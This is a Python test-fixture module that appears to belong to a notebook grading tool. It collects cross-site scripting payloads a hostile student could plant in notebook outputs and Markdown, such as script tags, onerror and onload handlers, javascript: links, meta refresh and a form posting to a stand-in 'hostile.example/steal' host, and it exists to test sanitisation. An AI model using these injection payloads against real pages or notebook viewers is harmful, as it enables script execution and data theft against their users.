"""HTML a hostile student puts in outputs and Markdown: each piece, if it ran in a browser, would mark the page
(``<html data-pwned="NAME">``) or ask another host for something. Written once; the unit tests, the feedback
page in Chromium, the grading corpus and the Formgrader test all use these."""

from __future__ import annotations

HOST = "http://hostile.example"  # resolves nowhere: the browser harness refuses and lists any request to it


def _mark(name: str) -> str:
    return f"document.documentElement.setAttribute('data-pwned', '{name}')"


PAYLOADS = {
    "script": f"<script>{_mark('script')}</script>",
    "onerror": f'<img src=x onerror="{_mark("onerror")}">',
    "svg-onload": f'<svg onload="{_mark("svg-onload")}"><circle r=5></circle></svg>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{_mark("iframe")}</script>"></iframe>',
    "javascript-link": f'<a id=go href="javascript:{_mark("link")}">details</a>',
    "style-url": f'<div style="background: url({HOST}/style.png)">styled</div>',
    "remote-image": f'<img src="{HOST}/image.png">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={HOST}/">',
    "form": f'<form action="{HOST}/steal"><input name=q autofocus onfocus="{_mark("onfocus")}"></form>',
    "object": f'<object data="{HOST}/x.swf"></object>',
}
#: JavaScript as its own output kind (what ``IPython.display.Javascript`` sends).
JAVASCRIPT = _mark("javascript-output")
#: A Markdown cell a student adds: an event handler in raw HTML.
MARKDOWN = f'**My notes.** <img src=x onerror="{_mark("markdown")}"> see above'


def all_in_one() -> str:
    return "\n".join(PAYLOADS.values())


def display_cell() -> str:
    """A code cell that displays every payload, and JavaScript, when it runs (in a kernel)."""
    return (
        "from IPython.display import HTML, Javascript, Markdown, display\n"
        f"display(HTML({all_in_one()!r}))\n"
        f"display(Markdown({MARKDOWN!r}))\n"
        f"display(Javascript({JAVASCRIPT!r}))\n"
    )
